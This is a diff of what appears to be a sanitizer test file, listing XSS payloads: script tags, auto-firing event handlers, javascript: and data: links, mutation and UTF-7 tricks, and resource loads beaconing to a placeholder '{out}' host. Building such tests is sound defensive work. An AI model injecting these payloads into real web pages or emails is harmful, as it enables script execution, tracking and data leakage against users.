@@ -22,17 +22,13 @@ RUN = "parent.pwned=top.pwned=1;alert(1);new Image().src='{out}/ran'"
 ATTEMPTS = {
     "script": f"<script>{RUN}</script>",
     "script from elsewhere": "<script src='{out}/a.js'></script>",
-    "module script": "<script type=module>import '{out}/m.js'</script>",
     "event handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}">',
     "handlers that need no click": f'<details open ontoggle="{RUN}">x</details>'
     f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>'
     f'<marquee onstart="{RUN}">x</marquee>'
     f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{RUN}">x</b>',
     "javascript: link": f'<a href="javascript:{RUN}">x</a>',
-    "javascript: link in disguise": f'<a href="&#106;ava\tscript&colon;{RUN}">x</a>',
     "data: link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    "link out": "<a href='{out}/a'>x</a>",
-    "link out, in this frame": "<a target=_self href='{out}/b'>x</a>",
     "link out, in the page": "<a target=_top href='{out}/c'>x</a><a target=_parent href='{out}/d'>y</a>",
     "link out, in a new page": "<a target=_blank href='{out}/e'>x</a><area href='{out}/f'>",
     "link out in other tongues": "<svg><a href='{out}/1'><text y=20>x</text></a><a xlink:href='{out}/2'>"
@@ -41,17 +37,13 @@ ATTEMPTS = {
     "link that is made later": "<svg><a><animate attributeName=href values='{out}/1' dur=1s fill=freeze />"
     "<set attributeName=href to='{out}/2'/><text y=20>x</text></a></svg>",
     "link with a ping": "<a href='#' ping='{out}/ping'>x</a>",
-    "link into the inbox": "<a target=_self href='/api/stats'>x</a><a target=_top href='/'>y</a>",
     "base": "<base href='{out}/' target=_self><img src=b.png><a href=b.html>x</a>",
     "meta refresh": "<meta http-equiv=refresh content='0;url={out}/refresh'>",
-    "meta refresh in svg": "<svg><foreignObject><meta http-equiv=refresh content='0;url={out}/r'>",
     "meta policy": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src={out}/p>",
     "form": "<form action='{out}/form' method=post><input name=p value=1><button>x</button></form>",
     "pictures": "<img src='{out}/1.png'><img srcset='{out}/2.png 1x'><picture><source srcset="
     "'{out}/3.png'><img></picture><input type=image src='{out}/4.png'><video poster='{out}/5.png'>"
     "</video><body background='{out}/6.png'><table background='{out}/7.png'><image src='{out}/8'>",
-    "sound and video": "<audio autoplay src='{out}/a.mp3'></audio><video autoplay><source src="
-    "'{out}/v.mp4'></video><track src='{out}/t.vtt' default>",
     "styles": "<link rel=stylesheet href='{out}/s.css'><style>@import url('{out}/i.css');"
     "@font-face{{font-family:f;src:url('{out}/f.woff')}}body{{font-family:f;background:url({out}/b.png);"
     "cursor:url({out}/c.cur),auto}}p{{list-style:url({out}/l.png);content:url({out}/d.png)}}</style>"
@@ -65,8 +57,6 @@ ATTEMPTS = {
     "svg": "<svg><script href='{out}/s.js'></script><image href='{out}/i.png'/><use href='{out}/u.svg#x'/>"
     f"<a href='javascript:alert(1)'><text y=20>x</text></a><animate onbegin=\"{RUN}\" attributeName=x>"
     "<set attributeName=href to='javascript:alert(1)'/><feImage href='{out}/fe.png'/></svg>",
-    "svg picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
-    "onload='alert(1)'><image href='{out}/n.png'/></svg>\">",
     "frames": "<iframe src='{out}/f.html'></iframe><iframe srcdoc=\"<script>top.pwned=1</script><img src="
     "'{out}/g'>\"></iframe><iframe src='javascript:top.pwned=1'></iframe><iframe src='/'></iframe>",
     "a set of frames": "<frameset cols=50%,50%><frame src='{out}/1'><frame src='javascript:top.pwned=1'>",
@@ -76,12 +66,8 @@ ATTEMPTS = {
     "</template></div><noscript><img src='{out}/n'></noscript>",
     "mutation": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"><math><mtext><table><mglyph>"
     f"<style><!--</style><img title=\"--&gt;&lt;img src={{out}}/m onerror={RUN}&gt;\">",
-    "tags left open": "<img src='{out}/dangling?<p>secret</p><a href=\"{out}/x",
-    "nothing but nulls": "<scr\0ipt>top.pwned=1</scr\0ipt><img src={out}/\0a>",
-    "cover the page": "<div style='position:fixed;inset:-9999px;z-index:9999;background:red'>x</div>",
     "pop-ups": "<dialog open>x</dialog><button popovertarget=p>x</button><div popover id=p><img src={out}/p>"
     "</div><button onclick='open(\"{out}/w\")'>y</button>",
-    "pictures of the mail that are none": "<img src='cid:x'><img src='cid:nothing'>",
     "utf-7": b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
 }  # fmt: skip
 
